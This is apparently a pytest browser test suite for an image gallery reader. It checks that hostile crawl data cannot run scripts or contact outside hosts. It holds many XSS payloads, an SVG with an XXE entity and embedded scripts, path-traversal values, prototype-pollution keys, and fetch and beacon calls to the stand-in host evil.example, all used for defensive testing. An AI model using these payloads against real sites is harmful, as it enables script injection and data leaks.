"""A crawl of people who want the gallery's reader to run their code, or to tell them that it was opened."""

from __future__ import annotations

from typing import Any

import pytest

from tests.support.galleries import META, write
from tests.support.images import jpeg
from tests.support.windows import Window, Windows

pytestmark = [pytest.mark.browser, pytest.mark.untraced]  # what is tried is a script

CALLS = "https://evil.example/called"
SCRIPTS = (
    f"<img src=x onerror=\"window.pwned=1;new Image().src='{CALLS}'\">",
    '"><script>window.pwned=1;alert(1)</script>',
    "' onfocus=window.pwned=1 autofocus tabindex=1 x='",
    "</script><script>window.pwned=1</script>",
    "javascript:window.pwned=1//",
    "\u2028window.pwned=1\u2029",
    '"+(window.pwned=1)+"',
    "\\\\\"+(window.pwned=1)+'",
    "*/window.pwned=1/*`${window.pwned=1}`\n\rwindow.pwned=1//",
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
    "<svg/onload=window.pwned=1><style>@import '" + CALLS + "'</style>",
    f"<meta http-equiv=refresh content='0;url={CALLS}'><base href={CALLS}><link rel=stylesheet href={CALLS}>",
    "\u202egpj.exe\u0000\x1b]8;;" + CALLS + "\x07",
)
SVG = f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{CALLS}?entity">]>
<?xml-stylesheet href="{CALLS}?style"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="window.pwned=1;alert(2)">
<script>window.pwned = 1; parent.pwned = 1; alert(3); fetch("{CALLS}?fetch"); new Image().src = "{CALLS}?image"</script>
<script href="{CALLS}?script"/><image href="{CALLS}?inner" width="9" height="9"/><use href="{CALLS}?use#a"/>
<style>@import url("{CALLS}?import"); rect {{ fill: url("{CALLS}?fill") }}</style>
<foreignObject width="9" height="9">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="{CALLS}?frame"></iframe></foreignObject>
<a href="javascript:window.pwned=1"><rect width="99" height="99"/></a>
<animate href="#x" attributeName="href" values="javascript:window.pwned=1"/></svg>"""


def crawl() -> dict[str, Any]:
    """Each text of strangers, in each place where a gallery has any."""
    paths = [
        "images/x.svg",
        "images/x.jpg",
        "../outside.jpg",
        "/etc/passwd",
        "images/../../secret.jpg",
        "images/x.html",
    ]
    paths += [
        "//evil.example/called",
        "https:evil.example/called",
        "images/\ud800.jpg",
        "javascript:alert(1)",
    ]
    thumbs = ["", "../../outside", "ab/" + "0" * 32, "javascript:alert(1)", "//evil.example/called", CALLS]
    rows = []
    for number, text in enumerate(SCRIPTS * 2):
        place = {
            "page": text,
            "alt": text,
            "caption": text,
            "found_in": text,
            "url": f"javascript:alert({number})",
        }
        rows.append(
            {
                "url": text if number % 2 else f"https://evil.example/{text}",
                "text": "\x1f".join([text] * 5),
                "path": paths[number % len(paths)],
                "thumb": thumbs[number % len(thumbs)],
                "format": number % 4,
                "host": number % len(SCRIPTS),
                "found": number % len(SCRIPTS),
                "group": 1 + number % 2,
                "page": ("javascript:window.pwned=1", "data:text/html,<script>alert(1)</script>", CALLS)[
                    number % 3
                ],
                **dict.fromkeys(
                    ("alt", "title", "caption", "heading", "page_title", "final_url", "sha256"), text
                ),
                "pages": [text, f"javascript:alert({number})", None, 7, {}],
                "more_pages": text,
                "places": [place, place, None, 7],
                "opt_outs": [text, {"signal": text}],
                "more": {text: text, "__proto__": {"pwned": 1}},
            }
        )
    names = [*SCRIPTS]
    failures = [
        {"url": text, "page": text, "detail": text, "http": text, "reason": n % 3}
        for n, text in enumerate(SCRIPTS)
    ]
    reasons = [
        {"slug": text, "count": 9, "means": text, "do": text, "example_url": text} for text in SCRIPTS[:3]
    ]
    told = {"title": SCRIPTS[0], "state": SCRIPTS[1], "hosts": names, "found_in": names, "seeds": names}
    return {"pictures": rows, "failures": failures, "reasons": reasons, **told}


def write_crawl(folder: Any) -> str:
    (folder / "images").mkdir()
    (folder / "images" / "x.svg").write_text(SVG, encoding="utf-8")
    (folder / "images" / "x.html").write_text(SVG, encoding="utf-8")
    (folder / "images" / "x.jpg").write_bytes(jpeg())
    (folder.parent / "outside.jpg").write_bytes(jpeg())
    return write(folder, **crawl()).as_uri()


def assert_harmless(windows: Windows, window: Window, page: str, folder: Any) -> None:
    window.frame()
    window.pump(0.3)
    assert window.value("typeof window.pwned") == "undefined"
    assert window.dialogs == []
    assert window.value("location.href.split('#')[0]") == page
    own = folder.as_uri() + "/"
    assert [url for url in window.requests if not url.startswith(own)] == []
    assert not [line for line in windows.proxy.asked if "evil" in line]


def test_nothing_of_it_is_run_and_nobody_is_told(tmp_path) -> None:
    from tests.support.browsers import need_chromium

    folder = tmp_path / "crawl"
    folder.mkdir()
    page = write_crawl(folder)
    with Windows(need_chromium()) as windows, windows.window() as window:
        window.open(page)
        assert_harmless(windows, window, page, folder)
        window.press("f")
        for index in range(3):
            window.value(f"document.querySelectorAll('#filters .value input')[{index}].click()")
        window.value("gallery.address.change({ facets: {} })")
        window.press("Escape")
        for number in range(2 * len(SCRIPTS)):
            window.value(f"gallery.address.change({{ image: '0.{number}' }})")
            window.wait_for("document.getElementById('record').textContent.includes('Address')")
            window.frame()
            for link in window.value("[...document.querySelectorAll('a[href]')].map(link => link.href)"):
                assert link.startswith(("http:", "https:", folder.as_uri() + "/")), link
                assert not link.endswith((".svg", ".html")), "opened, its scripts would run"
            window.press("Escape")
        assert_harmless(windows, window, page, folder)
        for tab in ("alike", "failures"):
            window.value(f"gallery.address.change({{ tab: {tab!r} }})")
            window.frame()
            window.value("document.querySelectorAll('summary').forEach(one => one.click())")
            assert_harmless(windows, window, page, folder)
        assert window.value("[...document.scripts].every(one => !one.text.trim())")
        for text in SCRIPTS:
            window.value(f"gallery.app.searchFor({text!r})")
        assert_harmless(windows, window, page, folder)


FRAGMENTS = (
    "#q=%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E",
    "#tab=%3Cscript%3E&image=0.1%22%3E&sort=__proto__&from=x",
    "#image=javascript:alert(1)&host=%3Csvg/onload=alert(1)%3E",
    "#__proto__=1&constructor=2&image=99999.99999&q=" + "a" * 9000,
)


@pytest.mark.parametrize("fragment", FRAGMENTS)
def test_a_link_with_a_hostile_fragment_does_nothing(
    window: Window, windows: Windows, tmp_path, fragment
) -> None:
    page = write(tmp_path, [{"url": "https://x.example/1.jpg"}] * 3).as_uri()
    window.open(page + fragment)
    assert_harmless(windows, window, page, tmp_path)
    assert not window.value("document.getElementById('detail').open")


def test_even_markup_that_got_in_would_be_stopped(window: Window, windows: Windows, tmp_path) -> None:
    """The policy alone holds what a mistake in a script of ours would let through."""
    page = write(tmp_path, [{"url": "https://x.example/1.jpg"}]).as_uri()
    window.open(page)
    for attempt in (
        f"document.body.innerHTML = `{SCRIPTS[0]}`",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.pwned = 1'}))",
        f"document.body.append(Object.assign(document.createElement('script'), {{src: '{CALLS}'}}))",
        f"document.body.append(Object.assign(document.createElement('img'), {{src: '{CALLS}'}}))",
        "document.body.setAttribute('onclick', 'window.pwned = 1'); document.body.click()",
        f"fetch('{CALLS}').catch(() => 0)",
        f"navigator.sendBeacon('{CALLS}')",
        "eval('window.pwned = 1')",
        f"gallery.store.failures('../../../{CALLS}').catch(() => 0)",
    ):
        window.tab.call("Runtime.evaluate", {"expression": attempt, "allowUnsafeEvalBlockedByCSP": False})
    window.pump(0.5)
    assert [url for url in window.requests if "evil.example" in url], "what is blocked is told as asked for"
    window.requests.clear()
    window.said.clear()  # the policy's complaints
    assert_harmless(windows, window, page, tmp_path)


def test_the_formats_that_tests_rely_on_are_those_of_the_builder() -> None:
    assert META["formats"][2] == "svg"
